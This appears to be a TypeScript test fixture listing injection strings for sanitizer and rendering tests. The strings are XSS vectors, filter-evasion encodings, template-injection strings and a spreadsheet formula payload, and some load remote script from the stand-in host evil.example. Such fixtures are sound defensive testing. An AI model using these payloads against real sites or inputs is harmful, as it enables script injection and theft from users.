import { readFileSync } from 'node:fs';
import { samplesAt } from '../samples';

/** What an injection does where it runs: a test looks for the mark. */
const act = 'window.__ran=1';

/** Texts that run a script, load something or spoil a page wherever they are taken for more than text. */
export const injections: readonly string[] = [
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${act}>`,
  `"><img src=x onerror=${act}>`,
  `'><svg/onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><foreignObject><body onload=${act}></foreignObject></svg>`,
  `<math><mi//xlink:href="javascript:${act}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="data:text/html,<script>parent.${act}</script>"></object>`,
  `<embed src="javascript:${act}">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><input name=q autofocus onfocus=${act}></form>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>`,
  `" onmouseover="${act}" x="`,
  `' autofocus onfocus='${act}`,
  `javascript:${act}`,
  `JaVa\tScRiPt:${act}`,
  `data:text/html,<script>${act}</script>`,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `]]><script>${act}</script>`,
  `--><script>${act}</script>`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\uFF1Cscript\uFF1E${act}\uFF1C/script\uFF1E`,
  `<\u0000script>${act}</script>`,
  `\u202E<script>${act}</script>\u202C`,
  `\u2066\u200B<img src=x onerror=${act}>\u2069`,
  `=cmd|'/c calc'!A1`,
  `;alert(1)//`,
  `__proto__`,
  `constructor`,
];

/** The suite of strings that break programs; none where the samples are missing. */
export const naughtyStrings = (): readonly string[] => {
  try {
    return JSON.parse(readFileSync(samplesAt('suites/blns/blns.json'), 'utf8'));
  } catch {
    return [];
  }
};
